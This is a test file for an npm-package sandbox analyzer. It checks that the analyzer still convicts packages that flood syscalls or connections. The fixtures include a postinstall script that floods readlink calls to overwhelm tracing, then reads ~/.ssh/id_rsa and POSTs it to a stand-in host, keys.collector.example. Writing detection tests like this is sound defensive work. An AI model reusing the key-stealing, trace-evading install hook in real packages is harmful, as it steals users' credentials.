// Floods are evidence, not a way out (#17): a postinstall that makes 160,000 failing readlink calls
// on a 4 KB path, then reads ~/.ssh/id_rsa and POSTs it, must end with a verdict under either
// tracer (it used to end SANDBOX_FAILED: the strace trace filled its mount, then the snapshot
// failed with ENOSPC). The flood is a finding, the phase is incomplete, and what the sinkhole saw
// still convicts it. Payloads target `.example` names only and run only in the sandbox.
import { rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Report } from '@vetbox/contracts';
import { detonate } from '@vetbox/pipeline';
import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage } from '@vetbox/sandbox';
import { stageNpm } from '../fixtures/sandbox/stage.js';

const FLOOD_THEN_STEAL = `
const fs = require('fs'), os = require('os'), http = require('http');
const deep = '/tmp/' + 'nothing-here/'.repeat(310); // ~4 KB of path, missing from the first part
for (let i = 0; i < 160000; i++) { try { fs.readlinkSync(deep); } catch {} }
const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
const req = http.request({ host: 'keys.collector.example', path: '/k', method: 'POST' }, (res) => res.resume());
req.on('error', () => {});
req.end(key);
`;

// 1,500 connections to documentation addresses (the sinkhole accepts them), then 64 MiB of output.
const CONNECTIONS_AND_OUTPUT = `
const net = require('net');
let open = 0;
for (let i = 0; i < 1500; i++) {
  const s = net.connect({ host: '203.0.113.' + (1 + (i % 200)), port: 8000 + (i % 50) });
  open++;
  s.on('error', () => {});
  s.on('connect', () => s.end('x'));
  s.on('close', () => { if (--open === 0) spam(); });
}
function spam() {
  const chunk = 'y'.repeat(65536) + '\\n';
  for (let i = 0; i < 1024; i++) process.stdout.write(chunk);
}
`;

const runtime = new DockerRuntime();
let image = '';
const dirs: string[] = [];

beforeAll(async () => {
  image = await ensureSandboxImage(runtime, { build: true });
}, 600_000);

afterAll(async () => {
  await Promise.all(dirs.map((d) => rm(d, { recursive: true, force: true })));
});

describe('a syscall flood before an exfiltration', () => {
  for (const tracer of ['ebpf', 'strace'] as const) {
    it(`ends with a verdict under ${tracer}: malicious, the flood a finding, the phase incomplete`, async () => {
      const staged = await stageNpm({ name: `flood-steal-${tracer}`, scripts: { postinstall: 'node flood.js' }, files: { 'flood.js': FLOOD_THEN_STEAL } });
      dirs.push(staged.dir);
      const analysisId = `test-flood-${tracer}-${process.pid}`;
      // A quarter of the memory is strace's trace mount: 256 MiB fills well before the flood ends.
      const { report } = await detonate(staged, { analysisId, runtime, image, tracer, phases: ['install'], workRoot: path.join(os.tmpdir(), 'vetbox-flood-work'), limits: { memoryMb: 1024, graceMs: 500 } });
      expect(() => Report.parse(report)).not.toThrow();
      expect(report.verdict).toBe('malicious');
      expect(report.error).toBeUndefined();
      expect(report.sandbox?.tracer?.name).toBe(tracer);
      const rules = report.findings.map((f) => f.rule);
      expect(rules).toContain('credential-exfiltration'); // the sinkhole saw the key leave
      expect(rules).toContain('trace-flood');
      const install = report.phases.find((p) => p.name === 'install')!;
      expect(install.reason).toMatch(/trace incomplete/);
      expect(report.incomplete).toBe(true);
      expect(report.incompletePhases?.find((p) => p.phase === 'install')?.reason).toMatch(/trace incomplete/);
      if (tracer === 'ebpf') {
        // Summarized, not lost: the flood is counted, and what followed it is still in the trace.
        const flood = report.behavior.floods?.find((f) => f.syscall === 'readlink');
        expect(flood?.recorded).toBeGreaterThan(0);
        expect((flood?.recorded ?? 0) + (flood?.suppressed ?? 0)).toBeGreaterThanOrEqual(160_000);
        expect(report.behavior.syscallCounts.install?.readlink).toBeGreaterThanOrEqual(160_000);
        expect(report.behavior.files.some((f) => f.path.endsWith('/.ssh/id_rsa') && f.op === 'read')).toBe(true);
        expect(report.sandbox?.tracer?.lostEvents).toBe(0);
      }
      expect(await runtime.listByLabel(LABEL_ANALYSIS, analysisId)).toEqual([]);
    }, 600_000);
  }
});

describe('a connection and output flood', () => {
  it('degrades into a readable report: every connection recorded, output cut to its tail, a verdict', async () => {
    const staged = await stageNpm({ name: 'flood-connections', scripts: { postinstall: 'node conns.js' }, files: { 'conns.js': CONNECTIONS_AND_OUTPUT } });
    dirs.push(staged.dir);
    const analysisId = `test-flood-connections-${process.pid}`;
    const { report } = await detonate(staged, { analysisId, runtime, image, phases: ['install'], workRoot: path.join(os.tmpdir(), 'vetbox-flood-work'), limits: { graceMs: 500 } });
    expect(() => Report.parse(report)).not.toThrow();
    expect(report.error).toBeUndefined();
    expect(['malicious', 'suspicious']).toContain(report.verdict);
    const install = report.phases.find((p) => p.name === 'install')!;
    expect(install.stdoutTail.length).toBeLessThanOrEqual(8192);
    const connects = report.behavior.network.connections.filter((c) => c.syscall === 'connect' && c.address.startsWith('203.0.113.'));
    expect(connects.length).toBe(1500);
    expect(report.findings.some((f) => f.rule === 'network-activity')).toBe(true);
    expect(await runtime.listByLabel(LABEL_ANALYSIS, analysisId)).toEqual([]);
  }, 600_000);
});
